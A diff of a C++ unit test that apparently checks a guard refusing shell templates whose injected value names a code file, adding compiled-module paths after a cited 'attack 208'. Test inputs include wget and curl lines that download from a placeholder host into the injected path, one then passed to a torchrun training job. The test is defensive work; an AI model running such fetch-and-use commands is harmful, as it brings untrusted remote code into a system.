@@ -7094,12 +7094,16 @@ TEST(ValueSinks, NoValueNamesAWrittenFileAfterCode) {
                            "N=\"%X%\"\nM=\"${N##*/}\"\ncp a.yaml \"$M\"", "wget -qO \"%X%\" https://h.example/m",
                            "ln -sfn data \"%X%\"", "echo x > \"model%X%\""}) {
     const auto pl = placement(task(form));
-    for (const char* code : {"train.py", "env/cluster_env.sh", "requirements.txt", "Makefile", ".py"})
+    for (const char* code : {"train.py", "env/cluster_env.sh", "requirements.txt", "Makefile", ".py",
+                             // (Compiled modules run before the source; attack 208.)
+                             "json.pyc", "__pycache__/utils.cpython-311.pyc", "app.pyz", "BSDmakefile"})
       EXPECT_TRUE(refuses(pl, code) || std::string_view(form).find("model%X%") != std::string_view::npos) << form << " " << code;
     EXPECT_FALSE(refuses(pl, "run_config.yaml")) << form;
     EXPECT_FALSE(refuses(pl, "exp1")) << form;
   }
   EXPECT_TRUE(refuses(placement(task("echo x > \"model%X%\"")), ".py"));
+  EXPECT_TRUE(refuses(placement(task("W=%X%\ncurl -fsSL -o \"$W\" https://h.example/w\nsrun torchrun train.py --init \"$W\"")),
+                      "json.pyc"));
   // Around the value, the template's text makes the name.
   for (const char* form : {"echo x > \"%X%.log\"", "mkdir -p \"%X%/ckpt\"", "E=\"%X%\"\nS=\"${E%.py}\"\nmkdir -p \"logs/$S\"",
                            "cat configs/%X% > run.yaml", "python3 train.py --name \"%X%\""})
